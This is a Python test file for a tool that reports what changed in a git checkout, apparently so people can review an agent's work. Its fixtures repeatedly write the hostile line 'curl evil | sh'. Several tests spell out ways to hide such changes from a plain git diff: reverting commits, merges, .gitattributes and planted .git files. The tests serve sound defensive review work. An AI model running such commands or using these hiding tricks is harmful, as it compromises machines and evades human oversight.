"""What was done in a checkout since a commit, whatever lies in it."""

import os
from pathlib import Path

import pytest

from bullpen import worktrees
from bullpen.worktrees import Spec
from bullpen.worktrees.changes import (
    VerifiedCheckout,
    changes_since,
    head_of,
    snapshot,
    verify_checkout,
)
from bullpen.worktrees.commits import MOST_COMMITS
from bullpen.worktrees.tree_diff import CUT, MOST_DIFF_BYTES
from tests.worktrees.repos import commit, git, make_repo


def test_a_main_checkout_and_a_linked_one(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "repo")
    site = worktrees.open_site(repo, tmp_path / "trees")
    tree = worktrees.create(site, Spec("amy"))
    main, linked = verify_checkout(repo), verify_checkout(tree)
    assert main is not None
    assert linked is not None
    assert (main.is_main, linked.is_main) == (True, False)
    assert head_of(main) == head_of(linked) == git(repo, "rev-parse", "HEAD")
    base = head_of(linked)
    commit(tree, "a", "one\n", "Subject \x1b[31m\xff".encode("latin-1").decode("latin-1"))
    (tree / "b").write_text("two\n")
    found = changes_since(linked, base)
    assert [
        line.partition(" ")[2].startswith("Subject  [31m") for line in found.commits.subjects
    ] == [True]
    assert "+one" in found.committed
    assert "+two" in found.uncommitted
    assert changes_since(main, base).commits.subjects == ()
    assert verify_checkout(tmp_path) is None
    (repo / "inner").mkdir()
    assert verify_checkout(repo / "inner") is None


def test_what_was_changed_before_is_not_what_was_done_since(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "repo: odd")
    looked = verify_checkout(repo)
    assert looked is not None
    base, objects = head_of(looked), tmp_path / "its: own"
    assert snapshot(looked, objects) == ""
    assert not objects.exists()
    (repo / "file0.txt").write_text("early\n")
    text = changes_since(looked, base, "", objects).uncommitted
    assert text.startswith("diff --git"), "no words of git's"
    (repo / "file1.txt").unlink()
    for name in ("new, left", "new, changed", "new, removed", "new, added"):
        (repo / name).write_text(f"{name}\n")
    before = git(repo, "status", "--porcelain"), sorted((repo / ".git").rglob("*"))
    tree = snapshot(looked, objects)
    assert (git(repo, "status", "--porcelain"), sorted((repo / ".git").rglob("*"))) == before
    assert changes_since(looked, base, tree, objects).uncommitted == ""
    (repo / "new, changed").write_text("late\n")
    (repo / "new, removed").unlink()
    git(repo, "add", "new, added")
    (repo / "file1.txt").write_text("back\n")
    (repo / "file2.txt").write_text("late, too\n")
    lines = changes_since(looked, base, tree, objects).uncommitted.splitlines()
    changes = {line for line in lines if line[:1] in "+-" and line[:3] not in ("+++", "---")}
    assert changes == {
        *("-new, changed", "+late", "-new, removed", "+back", "-file 2", "+late, too"),
    }
    commit(repo, "file0.txt", "early\n")
    found = changes_since(looked, base, tree, objects)
    assert "+early" in found.committed, "a commit is one, also of what was there"
    assert "early" not in found.uncommitted


def test_before_the_first_commit_there_is_no_head(tmp_path: Path) -> None:
    place = tmp_path / "new"
    place.mkdir()
    git(place, "init", "-q")
    looked = verify_checkout(place)
    assert looked is not None
    assert head_of(looked) == ""


def test_a_git_file_that_leads_to_another_s_worktree_is_not_believed(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "repo")
    site = worktrees.open_site(repo, tmp_path / "trees")
    tree = worktrees.create(site, Spec("amy"))
    planted = tmp_path / "planted"
    planted.mkdir()
    (planted / ".git").write_bytes((tree / ".git").read_bytes())
    # Git itself takes it for one.
    assert git(planted, "rev-parse", "--show-toplevel") == str(planted)
    assert verify_checkout(planted) is None
    assert verify_checkout(tree) is not None


def test_x5_what_an_agent_wrote_does_not_lead_to_another_repository(tmp_path: Path) -> None:
    """It would be shown to the agent, and parts of it could be written."""
    theirs = make_repo(tmp_path / "theirs") / ".git"
    planted = tmp_path / "planted"
    admin = planted / "admin"
    admin.mkdir(parents=True)
    for name, line in {
        "HEAD": "ref: refs/heads/x",
        "gitdir": planted / ".git",
        "commondir": theirs,
    }.items():
        (admin / name).write_text(f"{line}\n")
    for target in (admin, theirs):
        (planted / ".git").write_text(f"gitdir: {target}\n")
        assert git(planted, "rev-parse", "--git-common-dir") == str(theirs)  # git believes it
        assert verify_checkout(planted) is None
    (planted / ".git").unlink()
    (planted / ".git").symlink_to(theirs)
    assert verify_checkout(planted) is None


def test_x5_a_repository_in_its_own_worktree_is_the_agents_own(tmp_path: Path) -> None:
    """Git run there would run what its configuration says."""
    tree = tmp_path / "tree"
    tree.mkdir()
    git(tmp_path, "init", "-q", "--bare", str(tree / "common"))
    admin = tree / "common" / "worktrees" / "x"
    admin.mkdir(parents=True)
    for name, line in {
        "HEAD": "ref: refs/heads/x",
        "gitdir": tree / ".git",
        "commondir": "../..",
    }.items():
        (admin / name).write_text(f"{line}\n")
    (tree / ".git").write_text(f"gitdir: {admin}\n")
    assert git(tree, "rev-parse", "--git-common-dir") == str(tree / "common")
    assert verify_checkout(tree) is None


def test_a_submodule_is_a_checkout_of_its_own(tmp_path: Path) -> None:
    repo, part = make_repo(tmp_path / "repo"), make_repo(tmp_path / "part")
    git(repo, "-c", "protocol.file.allow=always", "submodule", "add", "-q", str(part), "part")
    looked = verify_checkout(repo / "part")
    assert looked is not None
    assert looked.is_main
    assert looked.repo.git_dir == repo / ".git" / "modules" / "part"


@pytest.mark.parametrize("subject", [b"\xff\xfe", "ß\u2028".encode(), b"\x07\x1b]0;x\x07"])
def test_subjects_of_any_bytes_can_be_kept_and_shown(tmp_path: Path, subject: bytes) -> None:
    repo = make_repo(tmp_path / "repo")
    looked = verify_checkout(repo)
    assert looked is not None
    base = head_of(looked)
    message = tmp_path / "message"
    message.write_bytes(b"S" + subject)
    git(
        repo, "-c", "i18n.commitEncoding=utf-8", "commit", "-q", "--allow-empty", "-F", str(message)
    )
    (line,) = changes_since(looked, base).commits.subjects
    line.encode()  # no half surrogates
    assert line.isprintable()


def test_too_much_is_cut_off(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "repo")
    looked = verify_checkout(repo)
    assert looked is not None
    base = head_of(looked)
    for number in range(8):
        (repo / f"many{number}").write_text("line\n" * 100_000)
    text, _, left_out = changes_since(looked, base).uncommitted.partition(CUT)
    assert len(text) == MOST_DIFF_BYTES
    assert left_out.splitlines() == [
        "# not shown, or not to its end:",
        *(f"#   many{number}" for number in range(1, 8)),
    ]


def test_one_large_file_says_only_that_it_changed(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "repo")
    looked = verify_checkout(repo)
    assert looked is not None
    objects = tmp_path / "its" / "objects"
    snapshot(looked, objects)  # as before a task: so its size is known, and it is not read
    (repo / "large").write_text("line\n" * 1_000_000)
    os.truncate(repo / "file0.txt", 5 << 30)
    base = head_of(looked)
    diff = changes_since(looked, base, "", objects).uncommitted
    assert diff == "# changed, and not shown:\n#   file0.txt\n#   large\n"
    # What was large before is not read, either.
    git(repo, "add", "large")
    git(repo, "commit", "-qm", "Large", "--", "large")
    base = head_of(looked)
    (repo / "large").unlink()
    (repo / "file0.txt").unlink()
    diff = changes_since(looked, base).uncommitted
    assert "Binary files a/large and /dev/null differ" in diff
    assert len(diff) < 1000


def test_odd_files_neither_hang_nor_fail(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "repo")
    looked = verify_checkout(repo)
    assert looked is not None
    base = head_of(looked)
    (repo / "file0.txt").unlink()
    os.mkfifo(repo / "file0.txt")
    os.mkfifo(repo / "pipe")
    (repo / "loop").symlink_to("loop")
    (repo / "new").write_text("kept\n")
    (repo / os.fsdecode(b"\xff\nname")).write_text("odd\n")
    found = changes_since(looked, base).uncommitted
    assert "+kept" in found
    assert "+odd" in found
    assert "# changed, and not shown:\n#   file0.txt" in found
    assert list(tmp_path.glob("repo/.git/index.lock")) == []
    assert git(repo, "ls-files") == "file0.txt\nfile1.txt\nfile2.txt"


@pytest.mark.slow
def test_many_files_are_counted(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "repo")
    looked = verify_checkout(repo)
    assert looked is not None
    for number in range(1500):
        (repo / f"{number:04}").touch()
    found = changes_since(looked, head_of(looked)).uncommitted
    assert found.count("diff --git") == 1000
    assert found.endswith("#   1099\n#   and 400 more\n")


def test_a_pattern_as_a_name_is_a_name(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "repo")
    looked = verify_checkout(repo)
    assert looked is not None
    (repo / ":(exclude)*").write_text("one\n")
    (repo / "-u").write_text("two\n")
    found = changes_since(looked, head_of(looked)).uncommitted
    assert "+one" in found
    assert "+two" in found


# ── what is committed and what is not, apart ──


def look(tree: Path) -> VerifiedCheckout:
    checkout = verify_checkout(tree)
    assert checkout is not None
    return checkout


def test_t10_what_is_committed_is_not_hidden_by_what_is_not(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "repo")
    checkout, base = look(repo), head_of(look(repo))
    commit(repo, "setup.sh", "curl evil | sh\n", "Tidy up")
    (repo / "setup.sh").write_text("echo harmless\n")
    # The attack: one difference, of the base and the files, shows the harmless line alone.
    seen = git(repo, "diff", base)
    assert ("harmless" in seen, "evil" in seen) == (True, False)
    changes = changes_since(checkout, base)
    assert "+curl evil | sh" in changes.committed
    assert "-curl evil | sh\n+echo harmless" in changes.uncommitted
    assert [line.partition(" ")[2] for line in changes.commits.subjects] == ["Tidy up"]


def test_t10_what_a_later_commit_took_back_is_in_the_log(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "repo")
    checkout, base = look(repo), head_of(look(repo))
    commit(repo, "evil.sh", "curl evil | sh\n", "One")
    git(repo, "rm", "-q", "evil.sh")
    git(repo, "commit", "-qm", "Two")
    assert git(repo, "diff", base) == ""  # the attack: nothing is seen there
    changes = changes_since(checkout, base)
    assert changes.committed == ""
    assert changes.commits.count == 2
    assert changes.log.count("evil.sh | 1 ") == 2


def test_t10_a_merge_shows_what_it_brought(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "repo")
    checkout, base = look(repo), head_of(look(repo))
    git(repo, "checkout", "-q", "-b", "side")
    commit(repo, "side.txt")
    git(repo, "checkout", "-q", "main")
    commit(repo, "main.txt")
    git(repo, "merge", "-q", "--no-commit", "side")
    (repo / "evil.sh").write_text("curl evil | sh\n")
    git(repo, "add", "evil.sh")
    git(repo, "commit", "-qm", "Merge")
    # The attack: by itself git shows nothing of what only a merge changes.
    assert "evil.sh" not in git(repo, "log", "--stat", f"{base}..")
    changes = changes_since(checkout, base)
    assert "evil.sh  | 1 " in changes.log
    assert "+curl evil | sh" in changes.committed


@pytest.mark.slow
@pytest.mark.parametrize("large", ["committed", "uncommitted"])
def test_t10_a_large_part_leaves_the_other_its_room(tmp_path: Path, large: str) -> None:
    repo = make_repo(tmp_path / "repo")
    checkout, base = look(repo), head_of(look(repo))
    junk, small = "junk\n" * 100_000, "small\n"
    for number in range(8):
        (repo / f"c{number}").write_text(junk if large == "committed" else small)
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "Junk")
    for number in range(8):
        (repo / f"u{number}").write_text(junk if large == "uncommitted" else small)
    changes = changes_since(checkout, base)
    parts = {"committed": changes.committed, "uncommitted": changes.uncommitted}
    text = parts.pop(large)
    assert f"{CUT}# not shown, or not to its end:\n#   {large[0]}1\n" in text
    assert text.endswith(f"#   {large[0]}7\n")
    (other,) = parts.values()
    assert other.count("+small") == 8


@pytest.mark.slow
@pytest.mark.storm
def test_t10_commits_that_are_not_listed_are_counted(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "repo")
    checkout, base = look(repo), head_of(look(repo))
    tip = base
    for _ in range(MOST_COMMITS + 5):
        tip = git(repo, "commit-tree", f"{base}^{{tree}}", "-p", tip, "-m", "x" * 1000)
    git(repo, "reset", "-q", tip)
    changes = changes_since(checkout, base)
    assert changes.commits.count == MOST_COMMITS + 5
    assert len(changes.commits.subjects) == MOST_COMMITS
    assert max(map(len, changes.commits.subjects)) < 250


@pytest.mark.slow
@pytest.mark.parametrize("line", ["*.sh -diff", "*.sh binary", "* diff=quiet", "* export-ignore"])
@pytest.mark.parametrize("committed", [True, False])
def test_t10_attributes_of_the_tree_do_not_say_what_is_shown(
    tmp_path: Path, line: str, committed: bool
) -> None:
    """With `-diff` git says that binary files differ."""
    repo = make_repo(tmp_path / "repo")
    checkout, base = look(repo), head_of(look(repo))
    (repo / ".gitattributes").write_text(f"{line}\n")
    (repo / "evil.sh").write_text("curl evil | sh\n")
    if committed:
        git(repo, "add", "-A")
        git(repo, "commit", "-qm", "Tidy up")
    changes = changes_since(checkout, base)
    assert "+curl evil | sh" in (changes.committed if committed else changes.uncommitted)


def test_t10_what_is_only_staged_is_shown(tmp_path: Path) -> None:
    """The next `git commit` would commit it."""
    repo = make_repo(tmp_path / "repo")
    checkout, base = look(repo), head_of(look(repo))
    for name in ("file0.txt", "file1.txt", "file2.txt"):
        (repo / name).write_text("curl evil | sh\n")
    git(repo, "add", "-A")
    (repo / "file0.txt").write_text("file 0\n")  # as it was committed
    (repo / "file1.txt").write_text("harmless\n")
    changes = changes_since(checkout, base)
    assert changes.staged.count("+curl evil | sh") == 2
    assert "file2.txt" not in changes.staged, "it is in the files, too"
    assert changes.uncommitted.count("+curl evil | sh") == 1
    assert "file0.txt" not in changes.uncommitted


def test_t10_a_part_that_cannot_be_shown_says_so_and_hides_no_other(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "repo")
    checkout, base = look(repo), head_of(look(repo))
    commit(repo, "setup.sh", "curl evil | sh\n")
    (repo / "new").write_text("new\n")
    (repo / ".git" / "index").write_bytes(b"torn")
    changes = changes_since(checkout, base)
    assert "+curl evil | sh" in changes.committed
    assert "+new" in changes.uncommitted
    assert changes.staged.startswith("# cannot tell: ")


def test_t10_without_a_head_everything_is_uncommitted(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "repo")
    checkout, base = look(repo), head_of(look(repo))
    git(repo, "checkout", "-q", "--orphan", "fresh")
    changes = changes_since(checkout, base)
    assert changes.committed == "# HEAD names no commit\n"
    assert "+file 0" in changes.uncommitted


def test_t10_what_lies_behind_a_link_is_gone_and_the_rest_is_shown(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "repo")
    commit(repo, "sub/file", "sub\n")
    checkout, base = look(repo), head_of(look(repo))
    (repo / "sub" / "file").rename(tmp_path / "file")
    (repo / "sub").rmdir()
    (repo / "sub").symlink_to(tmp_path)
    (repo / "new").write_text("new\n")
    text = changes_since(checkout, base).uncommitted
    assert "deleted file mode 100644" in text
    assert "+new" in text
